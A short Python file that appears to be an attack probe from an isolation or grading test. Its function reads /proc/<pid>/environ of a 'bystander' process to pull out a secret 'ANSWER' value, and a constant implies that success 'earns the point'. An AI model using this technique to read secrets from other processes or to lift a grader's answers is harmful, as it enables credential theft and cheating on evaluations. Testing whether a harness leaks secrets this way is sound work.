"""Reads the environment of another process of the same user, in which secrets are often kept."""

import json

import numpy as np

UNPROTECTED = "earns the point"


def attack(target):
    with open(f"/proc/{target['bystander']}/environ", "rb") as file:
        found = dict(entry.split(b"=", 1) for entry in file.read().split(b"\0") if entry)
    return np.array(json.loads(found[b"ANSWER"]))
